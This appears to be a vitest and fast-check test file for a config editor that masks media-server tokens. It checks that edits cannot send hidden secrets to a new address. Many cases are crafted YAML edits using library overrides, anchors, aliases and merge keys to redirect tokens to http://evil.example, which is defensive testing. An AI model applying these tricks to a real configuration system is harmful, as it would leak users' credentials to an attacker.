import fc from 'fast-check'
import { expect, test } from 'vitest'
import { substituteSecrets } from '../../src/config/read/environment/secrets.ts'
import { parseYaml } from '../../src/config/yaml/yaml-read.ts'
import { toPlain } from '../../src/config/yaml/yaml-value.ts'
import { secretMask } from '../../src/contract/api/api-connect.ts'
import { AppError } from '../../src/contract/errors.ts'
import { hiddenIn } from '../../src/server/connect/hidden/hidden-uses.ts'
import { maskConfig } from '../../src/server/connect/hidden/mask-config.ts'
import { nameSecrets } from '../../src/server/connect/hidden/unmask-config.ts'
import { applyEdit } from '../../src/server/jobs/config/text-edits.ts'

const secrets = [
  'aaTokenOfPlex000001',
  'bbKeyOfTautulli0002',
  'ccTokenOfRadarr0003',
  'ddTokenOfSonarr0004',
  'eeTokenOfGotify0005',
]
const env = { mine: 'ffSecretOfTheEnvironment6' }
const services = ['plex', 'tautulli', 'radarr', 'sonarr', 'gotify'] as const
const config = `plex:
  url: http://10.0.0.1:32400
  token: ${secrets[0]}
tautulli:
  url: http://10.0.0.2:8181
  apikey: ${secrets[1]}
radarr:
  url: http://10.0.0.3:7878
  token: ${secrets[2]}
sonarr:
  url: http://10.0.0.4:8989
  token: ${secrets[3]}
gotify:
  url: http://10.0.0.5:80
  token: ${secrets[4]}
tracearr:
  base_url: https://10.0.0.6:443
  key: <<mine>>
settings:
  asset_directory: config/assets
libraries:
  Movies:
    overlay_files:
      - default: resolution
`
const evil = 'http://evil.example'
const masked = maskConfig(config)

/** The text with secrets that a job would get from an edit; null if the edit is refused. */
function outcome(edited: string): unknown {
  try {
    const { text, secrets: named } = nameSecrets(
      applyEdit(edited, { masks: masked.masks, before: hiddenIn(masked) }, 'config.yml'),
    )
    const values = new Map([...Object.entries(named), ...Object.entries(env)])
    return toPlain(substituteSecrets(parseYaml(text, 'config'), values).value)
  } catch (error) {
    if (error instanceof AppError) return null
    throw error
  }
}

type Plain = Record<string, unknown>
const isMap = (value: unknown): value is Plain => typeof value === 'object' && value !== null && !Array.isArray(value)
function scalars(value: unknown, path: string[] = []): [string[], string][] {
  if (Array.isArray(value)) return value.flatMap((item) => scalars(item, [...path, '#']))
  if (isMap(value)) return Object.entries(value).flatMap(([key, item]) => scalars(item, [...path, key]))
  return [[path, String(value)]]
}
/**
 * Every secret with its key, and every address beside it after a library has inherited. It does not use the code under
 * test.
 */
function flows(document: unknown): Set<string> {
  const found = new Set<string>()
  if (!isMap(document)) return found
  const hidden = [...secrets, ...Object.values(env)]
  for (const [path, text] of scalars(document)) {
    const place = path[0] === 'libraries' ? ['libraries', '*', ...path.slice(2)] : path
    for (const secret of hidden) if (text.includes(secret)) found.add(`${secret} at ${place.join('.')}`)
  }
  const libraries = isMap(document.libraries) ? Object.values(document.libraries).filter(isMap) : []
  for (const owner of [{}, ...libraries]) {
    for (const name of new Set([...Object.keys(document), ...Object.keys(owner)])) {
      const own = isMap(owner[name])
        ? Object.fromEntries(Object.entries(owner[name]).filter(([, item]) => item !== null))
        : {}
      const section = { ...(isMap(document[name]) ? document[name] : {}), ...own }
      if (name === 'libraries') continue
      const texts = scalars(section)
      for (const secret of hidden.filter((one) => texts.some(([, text]) => text.includes(one)))) {
        for (const [, text] of texts) if (text.includes('://')) found.add(`${secret} to ${text.replace(/\/+$/, '')}`)
      }
    }
  }
  return found
}
const allowed = flows(toPlain(substituteSecrets(parseYaml(config, 'config'), new Map(Object.entries(env))).value))

test('the oracle finds every secret, and an edit without changes is accepted', () => {
  expect(allowed).toContain(`${secrets[0]} to http://10.0.0.1:32400`)
  expect(allowed).toContain(`${env.mine} to https://10.0.0.6:443`)
  expect(flows(outcome(masked.text))).toEqual(allowed)
})

const maskOf = (service: number) => `${secretMask}${service + 1}`
const bypasses: [string, string][] = services.flatMap((service, at): [string, string][] => {
  const key = service === 'tautulli' ? 'apikey' : 'token'
  const own = (text: string) => masked.text.replace('  Movies:\n', `  Movies:\n    ${service}: ${text}\n`)
  const anchored = masked.text.replace(`${key}: ${maskOf(at)}`, `${key}: &s ${maskOf(at)}`)
  const named = `<<kometa-preview-secret-${at + 1}>>`
  return [
    [`${service}: a library's own address inherits the secret`, own(`{url: "${evil}"}`)],
    [`${service}: a library's own address and the mask`, own(`{url: "${evil}", ${key}: ${maskOf(at)}}`)],
    [`${service}: an alias of the secret`, `${anchored}other: {url: "${evil}", ${key}: *s}\n`],
    [
      `${service}: an alias in a library`,
      anchored.replace('  Movies:\n', `  Movies:\n    ${service}: {url: "${evil}", ${key}: *s}\n`),
    ],
    [
      `${service}: a merge of the whole section`,
      masked.text
        .replace(`${service}:\n`, `${service}: &s\n`)
        .replace('  Movies:\n', `  Movies:\n    ${service}: {<<: *s, url: "${evil}"}\n`),
    ],
    [
      `${service}: an alias for the address`,
      `e: &e "${evil}"\n${masked.text.replace(new RegExp(`(${service}:\\n  url: )\\S+`), '$1*e')}`,
    ],
    [
      `${service}: a merge that brings the address`,
      `e: &e {url: "${evil}"}\n${masked.text.replace(new RegExp(`(${service}:\\n)  url: \\S+`), '$1  <<: *e')}`,
    ],
    [
      `${service}: the studio's own name in an overlay`,
      masked.text.replace('default: resolution', `url: "${evil}/${named}"`),
    ],
    [`${service}: the mask in an overlay`, masked.text.replace('default: resolution', `url: "${evil}/${maskOf(at)}"`)],
    [`${service}: the alias in an overlay`, anchored.replace('default: resolution', 'url: *s')],
    [
      `${service}: the certificate is not looked at`,
      masked.text.replace('settings:\n', 'settings:\n  verify_ssl: false\n'),
    ],
  ]
})
test.each([
  ...bypasses,
  ['a name of the environment beside another address', masked.text.replace('10.0.0.6', 'evil.example')],
  ['a name of the environment elsewhere', `${masked.text}other: {url: "${evil}", token: <<mine>>}\n`],
  ['ENV for Plex', masked.text.replace(`token: ${maskOf(0)}`, 'token: ENV').replace('10.0.0.1', 'evil.example')],
])('%s is refused', (_what, edited) => {
  expect(edited).not.toBe(masked.text)
  expect(outcome(edited)).toBeNull()
})

test.each([
  ['another overlay', masked.text.replace('default: resolution', 'default: ratings')],
  ['a library more', `${masked.text}  Shows: {overlay_files: [{default: resolution}]}\n`],
  ['a library of another name', masked.text.replace('  Movies:', '  Films:')],
  [
    'a library with an address and a token that are typed',
    masked.text.replace('  Movies:\n', `  Movies:\n    plex: {url: "${evil}", token: typed}\n`),
  ],
  ['an address with its secret typed', masked.text.replace('10.0.0.3', 'new.example').replace(maskOf(2), 'typed')],
  ['a section less', masked.text.replace(/gotify:\n.*\n.*\n/, '')],
  ['an anchor that is used nowhere', masked.text.replace(`token: ${maskOf(0)}`, `token: &a ${maskOf(0)}`)],
])('%s is accepted', (_what, edited) => {
  expect(edited).not.toBe(masked.text)
  const result = outcome(edited)
  expect(result).not.toBeNull()
  expect([...flows(result)].filter((flow) => !allowed.has(flow))).toEqual([])
})

/** A change of the text; several of them make a rewrite. */
const step = fc.oneof(
  fc.tuple(fc.constant('address' as const), fc.nat(5), fc.constantFrom(evil, '*e', '"http://10.0.0.9:1"')),
  fc.tuple(fc.constant('anchor' as const), fc.nat(4), fc.constantFrom('s', 't')),
  fc.tuple(fc.constant('section anchor' as const), fc.nat(4), fc.constantFrom('s', 't')),
  fc.tuple(
    fc.constant('library section' as const),
    fc.nat(4),
    fc.constantFrom(
      `{url: "${evil}"}`,
      '*s',
      '*t',
      `{<<: *s, url: "${evil}"}`,
      '{token: *t}',
      `{<<: [*s, *t]}`,
      '{url: *e}',
    ),
  ),
  fc.tuple(
    fc.constant('section' as const),
    fc.nat(4),
    fc.constantFrom(
      '*s',
      `{url: "${evil}", token: *s}`,
      `{url: "${evil}", token: <<mine>>}`,
      '{<<: *t}',
      `{url: *e, apikey: *t}`,
    ),
  ),
  fc.tuple(fc.constant('swap' as const), fc.nat(4), fc.constantFrom('1', '2', '3', '4', '5')),
  fc.tuple(fc.constant('overlay' as const), fc.nat(4), fc.constantFrom('*s', '*t', `"${evil}/<<mine>>"`, `"${evil}"`)),
  fc.tuple(fc.constant('rename' as const), fc.nat(4), fc.constantFrom('plex', 'radarr', 'sonarr', 'other')),
)
type Step = typeof step extends fc.Arbitrary<infer One> ? One : never

function rewrite(text: string, [what, at, with_]: Step): string {
  const service = [...services, 'tracearr'][at] ?? 'plex'
  switch (what) {
    case 'address':
      return text.replace(
        new RegExp(`(${service}:[^\\n]*\\n  (?:base_)?url: )\\S+`),
        (_all, lead: string) => lead + with_,
      )
    case 'anchor':
      return text.replace(`: ${maskOf(at)}\n`, `: &${with_} ${maskOf(at)}\n`)
    case 'section anchor':
      return text.replace(`\n${service}:\n`, `\n${service}: &${with_}\n`)
    case 'library section':
      return text.replace('  Movies:\n', `  Movies:\n    ${service}: ${with_}\n`)
    case 'section':
      return `${text}${service}2: ${with_}\n`
    case 'swap':
      return text.replace(maskOf(at), `${secretMask}${with_}`)
    case 'overlay':
      return text.replace('default: resolution', `url: ${with_}`)
    case 'rename':
      return text.replace(`\n${service}:`, `\n${with_}:`)
  }
}

test('no rewrite of the text moves a hidden secret to a new key or address', () => {
  let taken = 0
  fc.assert(
    fc.property(fc.array(step, { minLength: 1, maxLength: 6 }), (steps) => {
      const edited = steps.reduce(rewrite, `e: &e "${evil}"\n${masked.text}`)
      const result = outcome(edited)
      if (result === null) return
      taken += 1
      expect([...flows(result)].filter((flow) => !allowed.has(flow))).toEqual([])
    }),
    { numRuns: 3_000 },
  )
  // Otherwise a check that refuses everything would pass.
  expect(taken).toBeGreaterThan(20)
})
